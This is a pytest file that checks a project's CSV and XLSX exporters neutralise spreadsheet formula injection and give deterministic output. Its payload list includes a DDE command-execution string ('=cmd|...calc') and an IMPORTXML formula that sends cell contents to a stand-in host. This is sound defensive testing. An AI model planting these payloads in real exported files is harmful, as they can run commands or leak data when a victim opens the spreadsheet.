"""Exports hold text only: no payload becomes a formula in CSV or XLSX, and the same tables give the same bytes."""

import csv
import io
import re
import zipfile

import pytest
from lxml import etree

from templates.charts import Table
from templates.exports import csv_of, harmless, xlsx_of

SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    '=HYPERLINK("https://example.com","Open")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    '\n=IMPORTXML(CONCAT("https://example.test/",A1),"//a")',
)
"""Eleven ways in which a cell could begin a formula."""


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_begins_a_formula_in_csv(payload: str) -> None:
    table = Table((payload, "n"), [(payload, "7"), ("x", payload)])
    for line in read_csv(csv_of([(payload, table)])):
        for word in line:
            assert not re.match(r"[\s\ufeff\u200b]*[=+\-@|\uff1d\uff0b\uff0d\uff20]", word), word
            assert word in {"n", "7", "x"} or word.startswith("'")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_is_a_formula_in_xlsx(payload: str) -> None:
    found = parts(xlsx_of([(payload, Table((payload, "n"), [(payload, "7")]))]))
    root = etree.fromstring(found["xl/worksheets/sheet1.xml"])
    cells = list(root.iter(f"{SHEET}c"))
    assert len(cells) == 4
    assert {cell.get("t") for cell in cells} == {"inlineStr"}
    assert not list(root.iter(f"{SHEET}f", f"{SHEET}v"))
    shown = ["".join(cell.itertext()) for cell in cells]
    assert shown[0].replace("\r", "\n") == payload.replace("\r", "\n")
    assert not any(b"externalLink" in part or b"definedName" in part for part in found.values())


def test_every_cell_of_a_workbook_has_the_format_for_text() -> None:
    styles = etree.fromstring(parts(xlsx_of([("a", Table(("n",), [("7",)]))]))["xl/styles.xml"])
    assert {one.get("numFmtId") for one in styles.find(f"{SHEET}cellXfs")} == {"49"}


def test_words_stay_as_they_are_where_nothing_can_begin_a_formula() -> None:
    assert [harmless(word) for word in ("4.5", "92%", "Año", "\N{EN DASH}", "")] == [
        "4.5",
        "92%",
        "Año",
        "\N{EN DASH}",
        "",
    ]


def test_characters_that_no_file_may_hold_are_dropped() -> None:
    table = Table(("n",), [("a\x00b\x1bc",)])
    assert read_csv(csv_of([("t", table)]))[2] == ["abc"]
    assert etree.fromstring(parts(xlsx_of([("t", table)]))["xl/worksheets/sheet1.xml"]) is not None


def test_sheets_have_names_of_their_own_that_a_workbook_allows() -> None:
    table = Table(("n",), [("7",)])
    book = etree.fromstring(
        parts(xlsx_of([("By [x]: a/b", table), ("By  x   a b", table), ("", table), ("x" * 40, table)]))[
            "xl/workbook.xml"
        ]
    )
    names = [one.get("name") for one in book.iter(f"{SHEET}sheet")]
    assert len({name.lower() for name in names}) == 4
    assert all(0 < len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name) for name in names)


def test_the_same_tables_give_the_same_bytes() -> None:
    tables = [("a", Table(("n",), [("7",)])), ("b", Table(("m",), [(str(n),) for n in range(100)]))]
    assert csv_of(tables) == csv_of(tables)
    assert xlsx_of(tables) == xlsx_of(tables)


def test_columns_go_on_after_z() -> None:
    found = parts(xlsx_of([("a", Table([f"h{n}" for n in range(30)], []))]))["xl/worksheets/sheet1.xml"]
    assert b'r="Z1"' in found
    assert b'r="AA1"' in found
    assert b'r="AD1"' in found
